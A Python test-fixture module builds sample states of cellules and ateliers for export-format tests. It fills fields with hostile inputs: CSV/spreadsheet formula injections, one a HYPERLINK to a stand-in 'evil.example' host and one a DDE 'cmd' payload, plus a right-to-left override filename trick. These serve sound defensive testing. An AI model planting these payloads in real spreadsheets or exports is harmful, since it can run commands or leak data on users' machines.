"""States for the open-format tests, built by real user actions: hostile text in every
field, a deleted cellule, a deleted atelier, a federated cellule, a node the grid does not know."""

from __future__ import annotations

import json
from functools import cache
from pathlib import Path

from strategies import T0, rand

from app.core import actions, document, merge
from app.core.grid import Grid

GRID_FILE = Path(__file__).resolve().parents[2] / "data" / "fwb_grid.json"
NOW = T0 + 10**8  # 2026-01-29T13:46:40Z
BIHAIN = "871fa070cffffff"  # Bihain (Vielsalm), 6690, 6692, 6698
PECQ = "87194d200ffffff"

# Single-line fields (names, titles, places, contacts) refuse tabs and line breaks; descriptions take them.
HOSTILE_LINE = [
    '=HYPERLINK("http://evil.example/?"&A1;"clic")',
    "+32 470 12 34 56",
    "-2+3",
    "@SUM(A1:A9)",
    'guillemets "doubles" ; point-virgule, virgule',
    "emoji 🚲🌍👩🏽‍🔧 fin",
    "\u202eexe.tnemucod\u202c RTL override",
    "barre \\ oblique \\n pas un saut",
    "Jambes (Namur)",
    "'=1+1 apostrophe déjà tapée",
]
HOSTILE_MULTI = [
    "=1+1\nligne 2",
    "\t=cmd|' /C calc'!A0",
    "\r\n=2+2 après CRLF",
    "Ligne 1\nLigne 2\r\nLigne 3\rLigne 4",
    '"; DROP ;,,\\\\ "',
    "é" * 300 + "🚲" * 50,
]


@cache
def grid() -> Grid:
    return Grid.from_json(json.loads(GRID_FILE.read_text("utf-8")))


def sample():
    """(state, ids) — Alice's instance after importing Bob's file; see the module docstring."""
    alice = actions.new_state(name="Asso « Nord » ; test", random_bytes=rand("alice-fmt"))
    bob = actions.new_state(name="Bob", random_bytes=rand("bob-fmt"))
    t = T0
    ids = {}
    alice, c = actions.create_cellule(alice, {"nodeId": BIHAIN, "name": "Cellule Vélo", "contact": "velo@example.be",
                                              "description": "Réparations\nle samedi"}, now_ms=t,
                                      random_bytes=rand(1))
    ids["velo"] = c.id
    alice, a = actions.create_atelier(alice, {"celluleId": c.id, "title": "Atelier d’été",
                                              "startsAt": "2026-07-04T08:00:00Z", "endsAt": "2026-07-04T10:30:00Z",
                                              "place": "Maison de quartier, rue Longue 3"}, now_ms=t + 1,
                                      random_bytes=rand(2))
    ids["ete"] = a.id
    alice, a = actions.create_atelier(alice, {"celluleId": c.id, "title": "Atelier d’hiver",
                                              "startsAt": "2026-02-07T13:00:00Z"}, now_ms=t + 2,
                                      random_bytes=rand(3))
    ids["hiver"] = a.id
    alice, a = actions.create_atelier(alice, {"celluleId": c.id, "title": "Annulé",
                                              "startsAt": "2026-03-01T09:00:00Z"}, now_ms=t + 3,
                                      random_bytes=rand(4))
    ids["annule"] = a.id
    alice = actions.delete(alice, "atelier", a.id, now_ms=t + 4)
    alice, gone = actions.create_cellule(alice, {"nodeId": PECQ, "name": "Cellule supprimée"}, now_ms=t + 5,
                                         random_bytes=rand(5))
    ids["gone"] = gone.id
    alice, a = actions.create_atelier(alice, {"celluleId": gone.id, "title": "Atelier d’une cellule supprimée",
                                              "startsAt": "2026-04-01T09:00:00Z"}, now_ms=t + 6,
                                      random_bytes=rand(6))
    ids["orphaned"] = a.id
    alice = actions.delete(alice, "cellule", gone.id, now_ms=t + 7)
    # Hostile text in every field, one cellule and one atelier per pair of hostile values.
    ids["hostile"] = []
    for i, (line, multi) in enumerate(zip(HOSTILE_LINE, HOSTILE_MULTI * 2, strict=False)):
        alice, h = actions.create_cellule(alice, {"nodeId": PECQ, "name": line, "contact": line,
                                                  "description": multi}, now_ms=t + 10 + 2 * i,
                                          random_bytes=rand(f"h{i}"))
        alice, ha = actions.create_atelier(alice, {"celluleId": h.id, "title": line, "place": line,
                                                   "description": multi, "startsAt": "2026-05-01T10:00:00Z"},
                                           now_ms=t + 11 + 2 * i, random_bytes=rand(f"ha{i}"))
        ids["hostile"].append((h.id, ha.id, line, multi))
    bob, b = actions.create_cellule(bob, {"nodeId": BIHAIN, "name": "Cellule de Bob"}, now_ms=t + 40,
                                    random_bytes=rand(7))
    ids["bob"] = b.id
    text = document.dumps(document.to_document(bob, kind="full", now_ms=t + 41))
    alice, _ = merge.import_text(alice, text, now_ms=t + 42, known_nodes=grid())
    return alice, ids
